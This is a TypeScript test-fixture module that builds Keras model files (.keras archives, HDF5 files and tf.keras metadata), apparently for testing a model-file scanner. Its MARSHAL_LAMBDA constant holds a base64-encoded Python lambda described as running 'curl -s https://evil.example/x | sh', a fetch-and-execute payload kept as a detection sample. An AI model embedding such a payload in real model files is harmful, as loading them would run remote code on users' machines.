import { buildZip, type ZipEntrySpec } from './zip.js';

/**
 * Builders for Keras models. `.keras` files are zips of JSON (config.json, metadata.json) and HDF5 weights,
 * built here with buildZip; legacy `.h5` files come from h5py (test/fixtures/keras/, see its README) and from
 * `buildKerasH5` below, a byte builder for the HDF5 subset the reader walks.
 */

/** A `.keras` archive: config is serialized with JSON.stringify unless it is already text. */
export function buildKerasZip(options: { config: unknown; metadata?: unknown; weights?: Buffer; extra?: ZipEntrySpec[] }): Buffer {
  const text = (v: unknown) => (typeof v === 'string' ? v : JSON.stringify(v));
  const entries: ZipEntrySpec[] = [
    { name: 'metadata.json', data: text(options.metadata ?? { keras_version: '3.8.0', date_saved: '2025-01-01@00:00:00' }), method: 'deflate' },
    { name: 'config.json', data: text(options.config), method: 'deflate' },
    { name: 'model.weights.h5', data: options.weights ?? Buffer.concat([Buffer.from('89484446 0d0a1a0a'.replace(/ /g, ''), 'hex'), Buffer.alloc(96)]) },
    ...(options.extra ?? []),
  ];
  return buildZip({ entries });
}

/** A Keras 3 layer object: `{module, class_name, config, registered_name}`. */
export function layer(className: string, config: Record<string, unknown>, module = 'keras.layers'): Record<string, unknown> {
  return { module, class_name: className, config, registered_name: null };
}

/** A Keras 3 Sequential model config holding `layers`. */
export function sequentialConfig(layers: unknown[]): Record<string, unknown> {
  return {
    module: 'keras',
    class_name: 'Sequential',
    config: { name: 'sequential', trainable: true, dtype: dtypePolicy(), layers: [layer('InputLayer', { batch_shape: [null, 8], dtype: 'float32', sparse: false, name: 'input_layer' }), ...layers] },
    registered_name: null,
    build_config: { input_shape: [null, 8] },
    compile_config: {
      optimizer: { module: 'keras.optimizers', class_name: 'Adam', config: { name: 'adam', learning_rate: 0.001, beta_1: 0.9 }, registered_name: null },
      loss: 'mean_squared_error',
      metrics: ['mae'],
      loss_weights: null,
      jit_compile: false,
    },
  };
}

/** `{module: "keras", class_name: "DTypePolicy"}` as Keras 3 writes it into every layer. */
export function dtypePolicy(): Record<string, unknown> {
  return { module: 'keras', class_name: 'DTypePolicy', config: { name: 'float32' }, registered_name: null };
}

/** A Dense layer as Keras 3.8 serializes it (initializers, regularizer, activation string). */
export function denseLayer(name = 'dense', activation: unknown = 'relu'): Record<string, unknown> {
  return layer('Dense', {
    name,
    trainable: true,
    dtype: dtypePolicy(),
    units: 4,
    activation,
    use_bias: true,
    kernel_initializer: { module: 'keras.initializers', class_name: 'GlorotUniform', config: { seed: null }, registered_name: null },
    bias_initializer: { module: 'keras.initializers', class_name: 'Zeros', config: {}, registered_name: null },
    kernel_regularizer: { module: 'keras.regularizers', class_name: 'L2', config: { l2: 0.01 }, registered_name: null },
    bias_regularizer: null,
    kernel_constraint: null,
  });
}

/**
 * base64 of `marshal.dumps(code)` from CPython 3.11, as Keras's func_dump stores a lambda. Made with
 * `base64.b64encode(marshal.dumps((lambda x: ...).__code__))`; the code objects were never run.
 */
export const MARSHAL_LAMBDA = {
  /** `lambda x: __import__('os').system('curl -s https://evil.example/x | sh') or x` */
  malicious:
    '4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACgAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3P6I2N1cmwgLXMgaHR0cHM6Ly9ldmlsLmV4YW1wbGUveCB8IHNoKQLaCl9faW1wb3J0X1/aBnN5c3RlbakB2gF4cwEAAAAg+gg8c3RyaW5nPvoIPGxhbWJkYT5yCQAAAAMAAABzIwAAAIAAtQq4NNEwQNQwQNcwR9IwR9BIbdEwbtQwbtAwc9Byc4AA8wAAAAA=',
  /** `lambda x: x * 2.0 + 1.0` */
  benign: '4wEAAAAAAAAAAAAAAAIAAAADAAAA8xIAAACXAHwAZAF6BQAAZAJ6AAAAUwApA07nAAAAAAAAAEDnAAAAAAAA8D+pAKkB2gF4cwEAAAAg+gg8c3RyaW5nPvoIPGxhbWJkYT5yCAAAAAQAAABzDgAAAIAAsAGwQ7EHuCOxDYAA8wAAAAA=',
} as const;

/** Options of buildKerasH5: root attributes as strings, written fixed-length or variable-length. */
export interface BuildKerasH5Options {
  attributes: { name: string; value: string; vlen?: boolean }[];
  /** Superblock 0 with a version 1 object header (h5py's default), or 2 with an OHDR header (libver latest). */
  superblock?: 0 | 2;
  /** Bytes of user block before the superblock (a power of two from 512). */
  userBlock?: number;
}

/**
 * A minimal HDF5 file whose root group holds the given attributes (and no links). Superblock 0 or 2,
 * object header 1 or 2, attribute message 1 or 3; variable-length strings go to one global heap collection.
 * Checksums are zeros: the reader does not verify them. Faithful to the spec for what the reader reads.
 */
export function buildKerasH5(options: BuildKerasH5Options): Buffer {
  const v2 = options.superblock === 2;
  const base = options.userBlock ?? 0;
  const superblockSize = v2 ? 48 : 96;
  const headerAt = superblockSize;
  // Global heap objects for vlen strings, placed after the object header.
  const heapObjects: Buffer[] = [];
  const messages: Buffer[] = [];
  const heapAddressFixup: { message: number; at: number }[] = [];
  for (const attr of options.attributes) {
    const name = Buffer.from(`${attr.name}\0`);
    const value = Buffer.from(attr.value, 'utf8');
    let datatype: Buffer;
    let data: Buffer;
    if (attr.vlen) {
      datatype = Buffer.alloc(20);
      datatype[0] = 0x19; // class 9 (vlen), version 1
      datatype.writeUInt32LE(0x001 | (1 << 8), 1); // type 1 (string), charset utf-8
      datatype.writeUInt32LE(16, 4);
      datatype[8] = 0x10; // base type: fixed-point, size 1
      datatype.writeUInt32LE(1, 12);
      heapObjects.push(value);
      data = Buffer.alloc(16);
      data.writeUInt32LE(value.length, 0);
      data.writeUInt32LE(heapObjects.length, 12);
    } else {
      datatype = Buffer.alloc(8);
      datatype[0] = 0x13; // class 3 (string), version 1
      datatype.writeUInt32LE(Math.max(1, value.length), 4);
      data = value.length > 0 ? value : Buffer.alloc(1);
    }
    const dataspace = Buffer.from([v2 ? 2 : 1, 0, 0, v2 ? 0 : 0, 0, 0, 0, 0]).subarray(0, v2 ? 4 : 8);
    const pad = (b: Buffer) => (v2 ? b : Buffer.concat([b, Buffer.alloc((8 - (b.length % 8)) % 8)]));
    const head = Buffer.alloc(v2 ? 9 : 8);
    head[0] = v2 ? 3 : 1;
    head.writeUInt16LE(name.length, 2);
    head.writeUInt16LE(datatype.length, 4);
    head.writeUInt16LE(dataspace.length, 6);
    const body = Buffer.concat([head, pad(name), pad(datatype), pad(dataspace), data]);
    if (attr.vlen) heapAddressFixup.push({ message: messages.length, at: body.length - 12 });
    messages.push(body);
  }
  const messageHeader = v2 ? 4 : 8;
  const framed = messages.map((m) => (v2 ? m : Buffer.concat([m, Buffer.alloc((8 - (m.length % 8)) % 8)])));
  const chunkSize = framed.reduce((n, m) => n + messageHeader + m.length, 0);
  const prefix = v2 ? 4 + 1 + 1 + 4 : 16;
  const headerEnd = headerAt + prefix + chunkSize + (v2 ? 4 : 0);
  const heapAt = Math.ceil(headerEnd / 8) * 8;
  for (const { message, at } of heapAddressFixup) framed[message]!.writeBigUInt64LE(BigInt(heapAt), at);

  const header: Buffer[] = [];
  if (v2) {
    const p = Buffer.alloc(10);
    p.write('OHDR', 0, 'latin1');
    p[4] = 2;
    p[5] = 0x02; // chunk 0 size in 4 bytes
    p.writeUInt32LE(chunkSize, 6);
    header.push(p);
  } else {
    const p = Buffer.alloc(16);
    p[0] = 1;
    p.writeUInt16LE(messages.length, 2);
    p.writeUInt32LE(1, 4);
    p.writeUInt32LE(chunkSize, 8);
    header.push(p);
  }
  for (const m of framed) {
    const h = Buffer.alloc(messageHeader);
    if (v2) {
      h[0] = 0x0c;
      h.writeUInt16LE(m.length, 1);
    } else {
      h.writeUInt16LE(0x0c, 0);
      h.writeUInt16LE(m.length, 2);
    }
    header.push(h, m);
  }
  if (v2) header.push(Buffer.alloc(4));

  const heapParts: Buffer[] = [];
  if (heapObjects.length > 0) {
    const objects = heapObjects.map((o, i) => {
      const h = Buffer.alloc(16);
      h.writeUInt16LE(i + 1, 0);
      h.writeUInt16LE(1, 2);
      h.writeBigUInt64LE(BigInt(o.length), 8);
      return Buffer.concat([h, o, Buffer.alloc((8 - (o.length % 8)) % 8)]);
    });
    const used = 16 + objects.reduce((n, o) => n + o.length, 0);
    const size = Math.max(4096, used + 16);
    const h = Buffer.alloc(16);
    h.write('GCOL', 0, 'latin1');
    h[4] = 1;
    h.writeBigUInt64LE(BigInt(size), 8);
    const free = Buffer.alloc(size - used);
    if (free.length >= 16) free.writeBigUInt64LE(BigInt(free.length - 16), 8);
    heapParts.push(h, ...objects, free);
  }

  const sb = Buffer.alloc(superblockSize);
  Buffer.from('89484446 0d0a1a0a'.replace(/ /g, ''), 'hex').copy(sb, 0);
  if (v2) {
    sb[8] = 2;
    sb[9] = 8;
    sb[10] = 8;
    sb.writeBigUInt64LE(0n, 12); // base
    sb.writeBigUInt64LE(0xffffffffffffffffn, 20); // no extension
    sb.writeBigUInt64LE(BigInt(heapAt + heapParts.reduce((n, b) => n + b.length, 0)), 28);
    sb.writeBigUInt64LE(BigInt(headerAt), 36);
  } else {
    sb[8] = 0;
    sb[13] = 8;
    sb[14] = 8;
    sb.writeUInt16LE(4, 16);
    sb.writeUInt16LE(16, 18);
    sb.writeBigUInt64LE(0n, 24); // base
    sb.writeBigUInt64LE(0xffffffffffffffffn, 32); // free space
    sb.writeBigUInt64LE(BigInt(heapAt + heapParts.reduce((n, b) => n + b.length, 0)), 40);
    sb.writeBigUInt64LE(0xffffffffffffffffn, 48); // driver
    sb.writeBigUInt64LE(0n, 56); // root link name offset
    sb.writeBigUInt64LE(BigInt(headerAt), 64);
  }
  const body = Buffer.concat([sb, ...header]);
  const file = Buffer.concat([body, Buffer.alloc(heapAt - body.length), ...heapParts]);
  return base > 0 ? Buffer.concat([Buffer.alloc(base, 0x20), file]) : file;
}

/**
 * Metadata JSON of a tf.keras (2.x) layer as it goes into keras_metadata.pb (layer_serialization.py
 * `_python_properties_internal`): layer properties, then `class_name` and `config` from
 * serialize_keras_object, tuples as `{"class_name": "__tuple__", "items": [...]}` (json_utils).
 */
export function tfKerasLayerMetadata(className: string, config: Record<string, unknown>, id = 1): Record<string, unknown> {
  return {
    name: config.name ?? className.toLowerCase(),
    trainable: true,
    expects_training_arg: false,
    dtype: 'float32',
    batch_input_shape: null,
    stateful: false,
    must_restore_from_config: false,
    preserve_input_structure_in_config: false,
    autocast: true,
    class_name: className,
    config: { trainable: true, dtype: 'float32', ...config },
    shared_object_id: id,
    build_input_shape: { class_name: 'TensorShape', items: [null, 4] },
  };
}

/** A tf.keras Lambda layer config: func_dump's (code, defaults, closure) tuple, as Keras 2 writes it. */
export function tfKerasLambdaConfig(code: string): Record<string, unknown> {
  return {
    name: 'lambda',
    function: { class_name: '__tuple__', items: [code, null, null] },
    function_type: 'lambda',
    module: '__main__',
    output_shape: null,
    output_shape_type: 'raw',
    output_shape_module: null,
    arguments: {},
  };
}

/** Metadata JSON of a tf.keras Sequential model node (model_serialization.py): the architecture twice, plus versions. */
export function tfKerasModelMetadata(layers: Record<string, unknown>[]): Record<string, unknown> {
  const config = {
    name: 'sequential',
    layers: [{ class_name: 'InputLayer', config: { batch_input_shape: [null, 4], dtype: 'float32', sparse: false, ragged: false, name: 'input_1' } }, ...layers],
  };
  return {
    name: 'sequential',
    trainable: true,
    expects_training_arg: true,
    dtype: 'float32',
    batch_input_shape: null,
    must_restore_from_config: false,
    preserve_input_structure_in_config: false,
    autocast: false,
    class_name: 'Sequential',
    config,
    shared_object_id: 3,
    is_graph_network: true,
    keras_version: '2.11.0',
    backend: 'tensorflow',
    model_config: { class_name: 'Sequential', config },
    training_config: { loss: 'mse', metrics: null, optimizer_config: { class_name: 'Adam', config: { name: 'Adam', learning_rate: 0.001 } } },
  };
}
